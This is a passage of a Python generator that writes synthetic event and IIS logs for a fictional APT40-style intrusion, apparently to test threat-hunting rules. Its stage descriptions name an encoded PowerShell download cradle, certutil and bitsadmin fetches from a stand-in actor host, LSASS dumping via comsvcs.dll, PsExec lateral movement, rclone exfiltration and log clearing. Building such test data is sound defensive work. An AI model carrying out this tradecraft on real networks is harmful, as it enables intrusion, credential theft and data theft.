"""Write a small synthetic APT40 (Leviathan) intrusion as evtx_dump-style JSON lines.

The case is fictional and uses documentation values only. The victim is CORP
(``corp.example``, internal hosts on 10.0.0.0/8, the web server published as 192.0.2.10);
the actor uses 203.0.113.0/24 and a name under ``example.com``; public services
(Microsoft, Google, Dropbox) resolve to 198.51.100.0/24. The intrusion follows APT40
tradecraft from the public advisories: a research-paper lure, living-off-the-land
downloads, AT and scheduled-task persistence, a disguised IIS web shell, LSASS dumping,
lateral movement with a stolen service account, RAR staging in ``C:\\Windows\\Debug`` and
rclone exfiltration to Dropbox, then log clearing. It happens in business hours at UTC+10,
surrounded by ordinary activity and a few benign look-alikes that a good rule must not flag.

Every log stands for a copy forwarded to a collector, so events written before the actor
cleared a log are still present. Output is deterministic for a given seed.

The web server WEB01 also has its IIS access logs (W3C extended, ``iis/W3SVC1``): a busy
intranet portal used by two dozen staff, and the actor (:data:`ACTOR_WEB_IP`) probing it,
exploiting its upload handler to plant the China Chopper style shell, then driving the shell
with one POST per command, each shortly before w3wp starts cmd.exe.
:func:`write_demo_webroot` writes the site tree itself (``C:\\inetpub\\wwwroot``) with
the shell in it and file times that fit the story.

Run ``python -m tidehunt.demo.generate OUT_DIR`` to write the files.
"""

from __future__ import annotations

import argparse
import base64
import functools
import gzip
import hashlib
import json
import os
import random
import struct
import sys
import zlib
from collections.abc import Sequence
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any, Final

DEFAULT_SEED: Final = 40

#: Midnight at the start of the first business day at UTC+10 (Tuesday 2026-10-06).
LOCAL_DAY0: Final = datetime(2026, 10, 5, 14, 0, tzinfo=UTC)
#: Business days covered, and the span of the logs (06:00 on day 0 to midnight after day 2).
DAYS: Final = 3
WINDOW_START: Final = LOCAL_DAY0 + timedelta(hours=6)
WINDOW_END: Final = LOCAL_DAY0 + timedelta(days=DAYS)

SYSMON_CHANNEL: Final = "Microsoft-Windows-Sysmon/Operational"
POWERSHELL_CHANNEL: Final = "Microsoft-Windows-PowerShell/Operational"

FILE_SYSMON_WS: Final = "sysmon_ws-analyst01.json"
FILE_SYSMON_WEB: Final = "sysmon_web01.json"
FILE_POWERSHELL_WS: Final = "powershell_ws-analyst01.json"
FILE_SECURITY_DC: Final = "security_dc01.json"
FILE_SYSTEM_DC: Final = "system_dc01.json"

C2_HOST: Final = "static.seaport-news.example.com"
C2_IP: Final = "203.0.113.45"
LURE_NAME: Final = "Maritime_Policy_Research_2026.docx"
WEBSHELL_PATH: Final = r"C:\inetpub\wwwroot\aspnet_client\system_web\logo.aspx"
BEACON_PATH: Final = r"C:\Users\Public\Libraries\msohelper.exe"
RAR_PATH: Final = r"C:\Users\Public\Libraries\rar.exe"
RCLONE_PATH: Final = r"C:\Users\Public\Libraries\rclone.exe"

#: WEB01's name as its events carry it (``Computer``) and its IIS log (``s-computername``).
WEB_HOST: Final = "WEB01.corp.example"
#: The actor's address for the web intrusion (probe, upload exploit, web-shell traffic).
ACTOR_WEB_IP: Final = "203.0.113.77"
#: URIs of the web intrusion on WEB01 (the IIS site maps / to C:\inetpub\wwwroot\).
UPLOAD_URI: Final = "/Portal/Upload.ashx"
WEBSHELL_URI: Final = "/aspnet_client/system_web/logo.aspx"
#: The request field the shell evaluates (China Chopper sends its caller script in it).
_CHOPPER_FIELD: Final = "Tz3p"
#: Folder of the IIS logs under the evidence folder, and their W3C fields.
IIS_LOG_DIR: Final = "iis/W3SVC1"
IIS_FIELDS: Final = ("date time s-sitename s-computername s-ip cs-method cs-uri-stem "
                     "cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status "
                     "sc-substatus sc-win32-status sc-bytes cs-bytes time-taken")

_DOMAIN_SID: Final = "S-1-5-21-1983745216-2203671981-3157432605"
_SYS32: Final = "C:\\Windows\\System32\\"
_OFFICE: Final = "C:\\Program Files\\Microsoft Office\\root\\Office16\\"
_CHROME: Final = r"C:\Program Files\Google\Chrome\Application\chrome.exe"
_TEAMS: Final = (r"C:\Program Files\WindowsApps\MSTeams_24243.1309.3132.617_x64__8wekyb3d8bbwe"
                 r"\ms-teams.exe")
_MSDEPLOY: Final = r"C:\Program Files\IIS\Microsoft Web Deploy V3\msdeploy.exe"
_NET_FW: Final = "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\"
_ASPNET_TEMP: Final = _NET_FW + "Temporary ASP.NET Files\\root\\8c2f1a3e\\2d9b7c41\\"
_SHELL_DIR: Final = "C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\"
_SCHEDULE_SVC: Final = "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule"


# --------------------------------------------------------------------------- story


@dataclass(frozen=True, slots=True)
class Stage:
    """One step of the intrusion, as an analyst would summarise it."""

    number: int
    time: datetime
    host: str
    techniques: tuple[str, ...]
    description: str


STAGES: Final[tuple[Stage, ...]] = (
    Stage(1, datetime(2026, 10, 6, 0, 47, 3, tzinfo=UTC), "WS-ANALYST01",
          ("T1566.001", "T1204.002", "T1059.003", "T1059.001", "T1027.013"),
          f"j.smith opens the e-mailed lure {LURE_NAME}; WINWORD.EXE starts cmd.exe, which runs "
          "powershell -nop -w hidden -enc with a DownloadString cradle to the actor's server"),
    Stage(2, datetime(2026, 10, 6, 0, 52, 10, tzinfo=UTC), "WS-ANALYST01",
          ("T1105", "T1197"),
          "certutil -urlcache -split -f fetches the msohelper.exe beacon and bitsadmin /transfer "
          "fetches rar.exe into C:\\Users\\Public\\Libraries"),
    Stage(3, datetime(2026, 10, 6, 1, 4, 50, tzinfo=UTC), "WS-ANALYST01",
          ("T1112", "T1053.002", "T1053.005"),
          "EnableAt is set in the registry, an at.exe job and a schtasks /create task start the "
          "beacon every weekday"),
    Stage(4, datetime(2026, 10, 7, 2, 8, 11, tzinfo=UTC), "WEB01",
          ("T1190", "T1505.003", "T1036.005", "T1033", "T1087.002", "T1069.002", "T1016",
           "T1082", "T1018"),
          "w3wp.exe writes the web shell aspnet_client\\system_web\\logo.aspx, then spawns "
          "cmd.exe for whoami, net group \"domain admins\" /domain, ipconfig, nltest and more"),
    Stage(5, datetime(2026, 10, 7, 2, 24, 0, tzinfo=UTC), "WEB01",
          ("T1110.001", "T1003.001", "T1003.002"),
          "12 failed NTLM guesses for administrator reach DC01, then the web shell dumps LSASS "
          "with rundll32 comsvcs.dll MiniDump and saves the SAM and SYSTEM hives"),
    Stage(6, datetime(2026, 10, 7, 2, 40, 5, tzinfo=UTC), "WEB01 -> DC01",
          ("T1021.002", "T1569.002", "T1078.002", "T1053.005"),
          "PsExec64 from WEB01 logs on to DC01 as CORP\\svc_backup (type 3, NTLM), installs "
          "PSEXESVC and registers a PowerShell scheduled task"),
    Stage(7, datetime(2026, 10, 8, 3, 5, 12, tzinfo=UTC), "WS-ANALYST01",
          ("T1560.001", "T1074.001"),
          "rar.exe a -hp -v200m archives the Research documents into split volumes "
          "C:\\Windows\\Debug\\d.part*.rar"),
    Stage(8, datetime(2026, 10, 8, 3, 20, 2, tzinfo=UTC), "WS-ANALYST01",
          ("T1567.002",),
          "rclone copy sends C:\\Windows\\Debug to a Dropbox remote; rclone.exe connects to "
          "content.dropboxapi.com"),
    Stage(9, datetime(2026, 10, 8, 3, 41, 10, tzinfo=UTC), "WS-ANALYST01 -> DC01",
          ("T1070.001",),
          "wevtutil cl clears the Security and PowerShell logs locally and, with /r:, the "
          "Security log of DC01 (event 1102)"),
)


def story() -> list[dict[str, str]]:
    """The expected intrusion, one entry per stage.

    Returns:
        Dicts with ``stage``, ``time`` (ISO 8601 UTC), ``host``, ``techniques``
        (comma-separated ATT&CK IDs) and ``description``.
    """
    return [
        {
            "stage": str(s.number),
            "time": s.time.strftime("%Y-%m-%dT%H:%M:%SZ"),
            "host": s.host,
            "techniques": ", ".join(s.techniques),
            "description": s.description,
        }
        for s in STAGES
    ]


# --------------------------------------------------------------------------- identities


@dataclass(frozen=True, slots=True)
class _Account:
    name: str
    domain: str
    sid: str
    logon_id: str
    session: int

    @property
    def qualified(self) -> str:
        return f"{self.domain}\\{self.name}"


def _domain_account(name: str, rid: int, logon_id: str, session: int = 1) -> _Account:
    return _Account(name, "CORP", f"{_DOMAIN_SID}-{rid}", logon_id, session)


_SYSTEM: Final = _Account("SYSTEM", "NT AUTHORITY", "S-1-5-18", "0x3e7", 0)
_NETWORK_SVC: Final = _Account("NETWORK SERVICE", "NT AUTHORITY", "S-1-5-20", "0x3e4", 0)
_J_SMITH: Final = _domain_account("j.smith", 1107, "0x2a9f3c1")
_ADM_RLEE: Final = _domain_account("adm.rlee", 1105, "0x51c0e72", session=2)
_SVC_BACKUP: Final = _domain_account("svc_backup", 1120, "0x0", session=0)
_SVC_SQL: Final = _domain_account("svc_sql", 1121, "0x0", session=0)
_ADMINISTRATOR: Final = _domain_account("administrator", 500, "0x0", session=0)
_K_NGUYEN: Final = _domain_account("k.nguyen", 1108, "0x0")
_P_WALSH: Final = _domain_account("p.walsh", 1109, "0x0")


@dataclass(frozen=True, slots=True)
class _Host:
    fqdn: str
    ip: str
    guid_prefix: str
    sysmon_pid: int
    sysmon_file: str


_WS: Final = _Host("WS-ANALYST01.corp.example", "10.10.30.21", "6f1c2a9e", 3012, FILE_SYSMON_WS)
_WEB: Final = _Host(WEB_HOST, "10.10.20.15", "b83d5e07", 2788, FILE_SYSMON_WEB)
_DC_FQDN: Final = "DC01.corp.example"
_DC_IP: Final = "10.10.10.10"
_SQL_IP: Final = "10.10.20.30"
_JUMP_IP: Final = "10.10.40.5"

#: Other domain members seen at the domain controller: (name, address, user).
_CLIENTS: Final = (
    ("WS-ANALYST01", "10.10.30.21", _J_SMITH),
    ("WS-FIN02", "10.10.30.22", _K_NGUYEN),
    ("WS-HR03", "10.10.30.23", _P_WALSH),
)

#: Public services by name, all on documentation addresses.
_PUBLIC_IP: Final = {
    "www.google.com": "198.51.100.11",
    "clients2.google.com": "198.51.100.12",
    "update.googleapis.com": "198.51.100.13",
    "www.bing.com": "198.51.100.21",
    "login.microsoftonline.com": "198.51.100.22",
    "outlook.office365.com": "198.51.100.23",
    "teams.microsoft.com": "198.51.100.24",
    "graph.microsoft.com": "198.51.100.25",
    "settings-win.data.microsoft.com": "198.51.100.26",
    "ctldl.windowsupdate.com": "198.51.100.27",
    "www.example.com": "198.51.100.30",
    "www.dropbox.com": "198.51.100.41",
    "api.dropboxapi.com": "198.51.100.42",
    "content.dropboxapi.com": "198.51.100.43",
    C2_HOST: C2_IP,
    # the partner site the actor turned into a watering hole, and its injected script's host
    "www.port-news.example": "198.51.100.60",
    "stat.ports-analytics.example": "203.0.113.61",
}
_INTERNAL_IP: Final = {
    "wiki.corp.example": "10.10.20.40",
    "sharepoint.corp.example": "10.10.20.41",
    "inventory.corp.example": "10.10.20.42",
    "dc01.corp.example": _DC_IP,
    "sql01.corp.example": _SQL_IP,
}


@dataclass(frozen=True, slots=True)
class _Pe:
    description: str
    product: str
    company: str
    original: str
    version: str


_WIN_PRODUCT: Final = "Microsoft® Windows® Operating System"
_MS: Final = "Microsoft Corporation"
_WIN_VERSION: Final = "10.0.19041.4355 (WinBuild.160101.0800)"


def _win(description: str, original: str) -> _Pe:
    return _Pe(description, _WIN_PRODUCT, _MS, original, _WIN_VERSION)


_PE_INFO: Final[dict[str, _Pe]] = {
    "cmd.exe": _win("Windows Command Processor", "Cmd.Exe"),
    "powershell.exe": _win("Windows PowerShell", "PowerShell.EXE"),
    "certutil.exe": _win("CertUtil.exe", "CertUtil.exe"),
    "bitsadmin.exe": _win("BITS administration utility", "bitsadmin.exe"),
    "at.exe": _win("Schedule service command line interface", "at.exe"),
    "schtasks.exe": _win("Task Scheduler Configuration Tool", "schtasks.exe"),
    "reg.exe": _win("Registry Console Tool", "reg.exe"),
    "whoami.exe": _win("whoami - displays logged on user information", "whoami.exe"),
    "net.exe": _win("Net Command", "net.exe"),
    "net1.exe": _win("Net Command", "net1.exe"),
    "ipconfig.exe": _win("IP Configuration Utility", "ipconfig.exe"),
    "nltest.exe": _win("Microsoft® Logon Server Test Utility", "nltestrk.exe"),
    "systeminfo.exe": _win("Displays system information", "sysinfo.exe"),
    "tasklist.exe": _win("Lists the current running tasks", "tasklist.exe"),
    "netstat.exe": _win("TCP/IP Netstat Command", "netstat.exe"),
    "rundll32.exe": _win("Windows host process (Rundll32)", "RUNDLL32.EXE"),
    "wevtutil.exe": _win("Eventing Command Line Utility", "wevtutil.exe"),
    "svchost.exe": _win("Host Process for Windows Services", "svchost.exe"),
    "conhost.exe": _win("Console Window Host", "CONHOST.EXE"),
    "taskhostw.exe": _win("Host Process for Windows Tasks", "taskhostw.exe"),
    "backgroundtaskhost.exe": _win("Background Task Host", "backgroundTaskHost.exe"),
    "searchprotocolhost.exe": _win("Microsoft Windows Search Protocol Host",
                                   "SearchProtocolHost.exe"),
    "runtimebroker.exe": _win("Runtime Broker", "RuntimeBroker.exe"),
    "wmiprvse.exe": _win("WMI Provider Host", "Wmiprvse.exe"),
    "dllhost.exe": _win("COM Surrogate", "dllhost.exe"),
    "userinit.exe": _win("Userinit Logon Application", "USERINIT.EXE"),
    "explorer.exe": _win("Windows Explorer", "EXPLORER.EXE"),
    "notepad.exe": _win("Notepad", "NOTEPAD.EXE"),
    "gpupdate.exe": _win("Microsoft® Windows Group Policy Update Utility", "gpupdate.exe"),
    "tiworker.exe": _win("Windows Modules Installer Worker", "TiWorker.exe"),
    "w3wp.exe": _Pe("IIS Worker Process", "Internet Information Services", _MS, "w3wp.exe",
                    "10.0.17763.1 (WinBuild.160101.0800)"),
    "csc.exe": _Pe("Visual C# Command Line Compiler", "Microsoft® .NET Framework", _MS,
                   "csc.exe", "4.8.4084.0 built by: NET48REL1"),
    "cvtres.exe": _Pe("Microsoft® Resource File To COFF Object Conversion Utility",
                      "Microsoft® .NET Framework", _MS, "CVTRES.EXE", "14.10.25028.0"),
    "mpcmdrun.exe": _Pe("Microsoft Malware Protection Command Line Utility",
                        _WIN_PRODUCT, _MS, "MpCmdRun.exe", "4.18.25070.5"),
    "winword.exe": _Pe("Microsoft Word", "Microsoft Office", _MS, "WinWord.exe",
                       "16.0.17928.20114"),
    "excel.exe": _Pe("Microsoft Excel", "Microsoft Office", _MS, "Excel.exe",
                     "16.0.17928.20114"),
    "outlook.exe": _Pe("Microsoft Outlook", "Microsoft Office", _MS, "Outlook.exe",
                       "16.0.17928.20114"),
    "chrome.exe": _Pe("Google Chrome", "Google Chrome", "Google LLC", "chrome.exe",
                      "129.0.6668.90"),
    "msedge.exe": _Pe("Microsoft Edge", "Microsoft Edge", _MS, "msedge.exe", "129.0.2792.79"),
    "ms-teams.exe": _Pe("Microsoft Teams", "Microsoft Teams", _MS, "ms-teams.exe",
                        "24243.1309.3132.617"),
    "onedrive.exe": _Pe("Microsoft OneDrive", "Microsoft OneDrive", _MS, "OneDrive.exe",
                        "24.186.0915.0001"),
    "dropbox.exe": _Pe("Dropbox", "Dropbox", "Dropbox, Inc.", "Dropbox.exe", "207.4.5821"),
    "googleupdate.exe": _Pe("Google Installer", "Google Update", "Google LLC",
                            "GoogleUpdate.exe", "1.3.36.412"),
    "7z.exe": _Pe("7-Zip Console", "7-Zip", "Igor Pavlov", "7z.exe", "24.08"),
    "msdeploy.exe": _Pe("Microsoft Web Deploy", "Microsoft Web Deploy", _MS, "msdeploy.exe",
                        "9.0.7225.0"),
    "psexec64.exe": _Pe("Execute processes remotely", "Sysinternals PsExec",
                        "Sysinternals - www.sysinternals.com", "psexec.c", "2.43"),
    "rar.exe": _Pe("Command line RAR", "WinRAR", "Alexander Roshal", "Rar.exe", "7.01.0"),
    "rclone.exe": _Pe("Rsync for cloud storage", "Rclone", "https://rclone.org", "rclone.exe",
                      "1.68.1"),
}
_UNKNOWN_PE: Final = _Pe("-", "-", "-", "-", "-")


@dataclass(frozen=True, slots=True)
class _Proc:
    host: _Host
    guid: str
    pid: int
    image: str
    cmdline: str
    user: _Account
    integrity: str
    cwd: str
    parent: _Proc | None

    @property
    def name(self) -> str:
        return self.image.rsplit("\\", 1)[-1]


# --------------------------------------------------------------------------- output


def _system_time(ts: datetime) -> str:
    return ts.strftime("%Y-%m-%dT%H:%M:%S.%fZ")


def _utc_time(ts: datetime) -> str:
    return ts.strftime("%Y-%m-%d %H:%M:%S.") + f"{ts.microsecond // 1000:03d}"


@dataclass
class _Log:
    """Events for one output file, written in time order with consecutive record IDs."""

    filename: str
    first_record: int
    entries: list[tuple[datetime, int, dict[str, Any]]] = field(default_factory=list)

    def add(self, ts: datetime, event: dict[str, Any]) -> None:
        self.entries.append((ts, len(self.entries), event))

    def render(self) -> bytes:
        lines = []
        ordered = sorted(self.entries, key=lambda e: (e[0], e[1]))
        for n, (_, _, event) in enumerate(ordered):
            event["Event"]["System"]["EventRecordID"] = self.first_record + n
            lines.append(json.dumps(event, ensure_ascii=False, separators=(",", ":")))
        return ("\n".join(lines) + "\n").encode("utf-8")


def _hashes(image: str) -> str:
    key = image.lower().encode("utf-8")
    md5 = hashlib.md5(key, usedforsecurity=False).hexdigest().upper()
    sha256 = hashlib.sha256(key).hexdigest().upper()
    imphash = hashlib.md5(key[::-1], usedforsecurity=False).hexdigest().upper()
    return f"MD5={md5},SHA256={sha256},IMPHASH={imphash}"


def _logon_guid(host: _Host, user: _Account) -> str:
    h = hashlib.sha256(f"{host.fqdn}|{user.sid}|{user.logon_id}".encode()).hexdigest()
    return f"{{{host.guid_prefix}-{h[:4]}-{h[4:8]}-{h[8:12]}-{h[12:24]}}}"


def _encode_command(script: str) -> str:
    return base64.b64encode(script.encode("utf-16-le")).decode("ascii")


@dataclass
class _IisLog:
    """Requests to WEB01's IIS site (W3SVC1), written as one W3C extended log per UTC day.

    ``ts`` is when the request reached the server; the log keeps whole seconds, as IIS does.
    The log has its own random generator, so that adding web traffic leaves the Windows
    logs of a seed unchanged.
    """

    rng: random.Random
    entries: list[tuple[datetime, int, str]] = field(default_factory=list)
    #: Times csc.exe compiled the portal: the request that waited for it came just before.
    compiles: list[datetime] = field(default_factory=list)
    #: adm.rlee's msdeploy sync: (files written, portal compiled on the next request).
    deploy: tuple[datetime, datetime] | None = None

    def add(self, ts: datetime, method: str, stem: str, *, client: str, agent: str,
            sent: int, received: int, taken_ms: int, status: int = 200, query: str = "-",
            user: str = "-", referer: str = "-", substatus: int = 0, win32: int = 0,
            port: int = 443, server_ip: str = _WEB.ip) -> None:
        """One request line (IIS writes a space in a header value as ``+``)."""
        values = (f"{ts:%Y-%m-%d}", f"{ts:%H:%M:%S}", "W3SVC1", _WEB.fqdn, server_ip, method,
                  stem, query or "-", str(port), user or "-", client,
                  agent.replace(" ", "+"), referer.replace(" ", "+") or "-", str(status),
                  str(substatus), str(win32), str(sent), str(received), str(taken_ms))
        self.entries.append((ts, len(self.entries), " ".join(values)))

    def render(self) -> dict[str, bytes]:
        """File name (``u_exYYMMDD.log``) -> content, for every UTC day of the window."""
        days: dict[str, list[str]] = {}
        day = WINDOW_START.replace(hour=0, minute=0, second=0, microsecond=0)
        while day < WINDOW_END:
            days[f"{day:%Y-%m-%d}"] = [
                "#Software: Microsoft Internet Information Services 10.0", "#Version: 1.0",
                f"#Date: {day:%Y-%m-%d} 00:00:00", f"#Fields: {IIS_FIELDS}"]
            day += timedelta(days=1)
        for ts, _, line in sorted(self.entries):
            days[f"{ts:%Y-%m-%d}"].append(line)
        return {f"u_ex{name[2:4]}{name[5:7]}{name[8:10]}.log":
                ("\r\n".join(lines) + "\r\n").encode("ascii") for name, lines in days.items()}


class _Case:
    """Builds every event of the demo case from one seeded random generator."""

    def __init__(self, seed: int) -> None:
        self.seed = seed
        self.rng = random.Random(seed)
        self.iis = _IisLog(random.Random(f"tidehunt-demo-iis-{seed}"))
        self.logs = {
            FILE_SYSMON_WS: _Log(FILE_SYSMON_WS, 184_203),
            FILE_SYSMON_WEB: _Log(FILE_SYSMON_WEB, 92_541),
            FILE_POWERSHELL_WS: _Log(FILE_POWERSHELL_WS, 23_887),
            FILE_SECURITY_DC: _Log(FILE_SECURITY_DC, 3_412_907),
            FILE_SYSTEM_DC: _Log(FILE_SYSTEM_DC, 61_204),
        }
        self._guids = 0

    # ---- time

    def work_time(self, day: int, start_hour: float = 8.0, end_hour: float = 18.0) -> datetime:
        """A random instant in local business hours of ``day`` (UTC+10)."""
        lo = LOCAL_DAY0 + timedelta(days=day, hours=start_hour)
        span = (end_hour - start_hour) * 3600
        return lo + timedelta(seconds=self.rng.uniform(0, span),
                              microseconds=self.rng.randrange(1_000_000))

    def hours(self, step: float = 1.0) -> list[datetime]:
        """Hour marks across the window, jittered."""
        out = []
        t = WINDOW_START
        while t < WINDOW_END - timedelta(minutes=5):
            out.append(t + timedelta(seconds=self.rng.uniform(0, step * 3600 - 60)))
            t += timedelta(hours=step)
        return out

    # ---- envelopes

    def _envelope(self, *, provider: dict[str, Any], event_id: int | dict[str, Any],
                  version: int, level: int, task: int, opcode: int, keywords: str,
                  ts: datetime, channel: str, computer: str, pid: int,
                  user_sid: str | None, data_key: str, data: dict[str, Any]) -> dict[str, Any]:
        return {"Event": {
            "#attributes": {"xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"},
            "System": {
                "Provider": {"#attributes": provider},
                "EventID": event_id,
                "Version": version,
                "Level": level,
                "Task": task,
                "Opcode": opcode,
                "Keywords": keywords,
                "TimeCreated": {"#attributes": {"SystemTime": _system_time(ts)}},
                "EventRecordID": 0,
                "Correlation": None,
                "Execution": {"#attributes": {"ProcessID": pid,
                                              "ThreadID": self.rng.randrange(1000, 9000, 4)}},
                "Channel": channel,
                "Computer": computer,
                "Security": {"#attributes": {"UserID": user_sid}} if user_sid else None,
            },
            data_key: data,
        }}

    def _sysmon(self, host: _Host, ts: datetime, event_id: int, version: int,
                data: dict[str, Any]) -> None:
        created = ts + timedelta(microseconds=self.rng.randrange(300, 4000))
        event = self._envelope(
            provider={"Name": "Microsoft-Windows-Sysmon",
                      "Guid": "{5770385f-c22a-43e0-bf4c-06f5698ffbd9}"},
            event_id=event_id, version=version, level=4, task=event_id, opcode=0,
            keywords="0x8000000000000000", ts=created, channel=SYSMON_CHANNEL,
            computer=host.fqdn, pid=host.sysmon_pid, user_sid="S-1-5-18",
            data_key="EventData", data={"RuleName": "-", "UtcTime": _utc_time(ts), **data})
        self.logs[host.sysmon_file].add(ts, event)

    def _security(self, ts: datetime, event_id: int, version: int, task: int, keywords: str,
                  data: dict[str, Any]) -> None:
        event = self._envelope(
            provider={"Name": "Microsoft-Windows-Security-Auditing",
                      "Guid": "{54849625-5478-4994-a5ba-3e3b0328c30d}"},
            event_id=event_id, version=version, level=0, task=task, opcode=0,
            keywords=keywords, ts=ts, channel="Security", computer=_DC_FQDN, pid=652,
            user_sid=None, data_key="EventData", data=data)
        self.logs[FILE_SECURITY_DC].add(ts, event)

    def _system_log(self, ts: datetime, event_id: int, data: dict[str, Any],
                    user_sid: str | None = None) -> None:
        event = self._envelope(
            provider={"Name": "Service Control Manager",
                      "Guid": "{555908d1-a6d7-4695-8e1e-26931d2012f4}",
                      "EventSourceName": "Service Control Manager"},
            event_id={"#attributes": {"Qualifiers": 16384}, "#text": event_id},
            version=0, level=4, task=0, opcode=0, keywords="0x8080000000000000", ts=ts,
            channel="System", computer=_DC_FQDN, pid=640, user_sid=user_sid,
            data_key="EventData", data=data)
        self.logs[FILE_SYSTEM_DC].add(ts, event)

    # ---- processes (Sysmon 1)

    def _guid(self, host: _Host, ts: datetime) -> str:
        self._guids += 1
        stamp = int(ts.timestamp())
        return (f"{{{host.guid_prefix}-{(stamp >> 16) & 0xFFFF:04x}-{stamp & 0xFFFF:04x}-"
                f"{self._guids & 0xFFFF:04x}-{self.rng.getrandbits(48):012x}}}")

    def running(self, host: _Host, image: str, cmdline: str, user: _Account, *,
                parent: _Proc | None = None, pid: int | None = None,
                integrity: str = "System") -> _Proc:
        """A process started before the window (no event is written for it)."""
        return _Proc(host, self._guid(host, WINDOW_START - timedelta(days=1)),
                     pid or self.rng.randrange(400, 9000, 4), image, cmdline, user, integrity,
                     _SYS32, parent)

    def spawn(self, ts: datetime, parent: _Proc, image: str, cmdline: str, *,
              user: _Account | None = None, integrity: str | None = None,
              cwd: str | None = None) -> _Proc:
        """Start a process and write its Sysmon 1 event."""
        host = parent.host
        proc = _Proc(host, self._guid(host, ts), self.rng.randrange(1000, 16000, 4), image,
                     cmdline, user or parent.user, integrity or parent.integrity,
                     cwd or parent.cwd, parent)
        pe = _PE_INFO.get(proc.name.lower(), _UNKNOWN_PE)
        u = proc.user
        self._sysmon(host, ts, 1, 5, {
            "ProcessGuid": proc.guid,
            "ProcessId": proc.pid,
            "Image": proc.image,
            "FileVersion": pe.version,
            "Description": pe.description,
            "Product": pe.product,
            "Company": pe.company,
            "OriginalFileName": pe.original,
            "CommandLine": proc.cmdline,
            "CurrentDirectory": proc.cwd,
            "User": u.qualified,
            "LogonGuid": _logon_guid(host, u),
            "LogonId": u.logon_id,
            "TerminalSessionId": u.session,
            "IntegrityLevel": proc.integrity,
            "Hashes": _hashes(proc.image),
            "ParentProcessGuid": parent.guid,
            "ParentProcessId": parent.pid,
            "ParentImage": parent.image,
            "ParentCommandLine": parent.cmdline,
            "ParentUser": parent.user.qualified,
        })
        return proc

    # ---- other Sysmon events

    def connect(self, ts: datetime, proc: _Proc, dest_ip: str, port: int,
                hostname: str = "", *, protocol: str = "tcp") -> None:
        """Sysmon 3: an outbound connection."""
        self._sysmon(proc.host, ts, 3, 5, {
            "ProcessGuid": proc.guid,
            "ProcessId": proc.pid,
            "Image": proc.image,
            "User": proc.user.qualified,
            "Protocol": protocol,
            "Initiated": True,
            "SourceIsIpv6": False,
            "SourceIp": proc.host.ip,
            "SourceHostname": proc.host.fqdn,
            "SourcePort": self.rng.randrange(49152, 65535),
            "SourcePortName": "-",
            "DestinationIsIpv6": False,
            "DestinationIp": dest_ip,
            "DestinationHostname": hostname or "-",
            "DestinationPort": port,
            "DestinationPortName": {80: "http", 443: "https", 445: "microsoft-ds",
                                    1433: "ms-sql-s"}.get(port, "-"),
        })

    def resolve(self, ts: datetime, proc: _Proc, name: str) -> str:
        """Sysmon 22: a DNS query; returns the address it resolved to."""
        address = _PUBLIC_IP.get(name) or _INTERNAL_IP[name]
        self._sysmon(proc.host, ts, 22, 5, {
            "ProcessGuid": proc.guid,
            "ProcessId": proc.pid,
            "QueryName": name,
            "QueryStatus": "0",
            "QueryResults": f"::ffff:{address};",
            "Image": proc.image,
            "User": proc.user.qualified,
        })
        return address

    def browse(self, ts: datetime, proc: _Proc, name: str, port: int = 443) -> None:
        """A DNS query followed by a connection to the answer."""
        address = self.resolve(ts, proc, name)
        self.connect(ts + timedelta(milliseconds=self.rng.randrange(20, 300)), proc, address,
                     port, name)

    def create_file(self, ts: datetime, proc: _Proc, path: str) -> None:
        """Sysmon 11: a file was created."""
        self._sysmon(proc.host, ts, 11, 2, {
            "ProcessGuid": proc.guid,
            "ProcessId": proc.pid,
            "Image": proc.image,
            "TargetFilename": path,
            "CreationUtcTime": _utc_time(ts),
            "User": proc.user.qualified,
        })

    def set_value(self, ts: datetime, proc: _Proc, key: str, details: str) -> None:
        """Sysmon 13: a registry value was set."""
        self._sysmon(proc.host, ts, 13, 2, {
            "EventType": "SetValue",
            "ProcessGuid": proc.guid,
            "ProcessId": proc.pid,
            "Image": proc.image,
            "TargetObject": key,
            "Details": details,
            "User": proc.user.qualified,
        })

    # ---- PowerShell 4104

    def script_block(self, ts: datetime, proc: _Proc, text: str, *, warning: bool = False,
                     path: str = "") -> None:
        """PowerShell 4104: a script block was compiled."""
        event = self._envelope(
            provider={"Name": "Microsoft-Windows-PowerShell",
                      "Guid": "{a0c1853b-5c40-4b15-8766-3cf1c58f985a}"},
            event_id=4104, version=1, level=3 if warning else 5, task=2, opcode=15,
            keywords="0x0", ts=ts, channel=POWERSHELL_CHANNEL, computer=proc.host.fqdn,
            pid=proc.pid, user_sid=proc.user.sid, data_key="EventData",
            data={"MessageNumber": 1, "MessageTotal": 1, "ScriptBlockText": text,
                  "ScriptBlockId": self._uuid(), "Path": path})
        self.logs[FILE_POWERSHELL_WS].add(ts, event)

    def _uuid(self) -> str:
        h = f"{self.rng.getrandbits(128):032x}"
        return f"{h[:8]}-{h[8:12]}-4{h[13:16]}-a{h[17:20]}-{h[20:]}"

    # ---- Security events on DC01

    def logon(self, ts: datetime, user: _Account, logon_type: int, *, ip: str,
              workstation: str, package: str = "Kerberos") -> None:
        """Security 4624: an account logged on to DC01."""
        ntlm = package == "NTLM"
        process = {2: "User32 ", 10: "User32 ", 5: "Advapi  "}.get(
            logon_type, "NtLmSsp " if ntlm else "Kerberos")
        caller = {2: "winlogon.exe", 10: "winlogon.exe", 5: "services.exe"}.get(logon_type)
        self._security(ts, 4624, 2, 12544, "0x8020000000000000", {
            "SubjectUserSid": "S-1-0-0" if logon_type == 3 else "S-1-5-18",
            "SubjectUserName": "-" if logon_type == 3 else "DC01$",
            "SubjectDomainName": "-" if logon_type == 3 else "CORP",
            "SubjectLogonId": "0x0" if logon_type == 3 else "0x3e7",
            "TargetUserSid": user.sid,
            "TargetUserName": user.name,
            "TargetDomainName": user.domain,
            "TargetLogonId": f"0x{self.rng.getrandbits(28):x}",
            "LogonType": logon_type,
            "LogonProcessName": process,
            "AuthenticationPackageName": package,
            "WorkstationName": workstation,
            "LogonGuid": "{00000000-0000-0000-0000-000000000000}" if ntlm
            else f"{{{self._uuid()}}}",
            "TransmittedServices": "-",
            "LmPackageName": "NTLM V2" if ntlm else "-",
            "KeyLength": 128 if ntlm else 0,
            "ProcessId": f"0x{self.rng.randrange(400, 1200, 4):x}" if caller else "0x0",
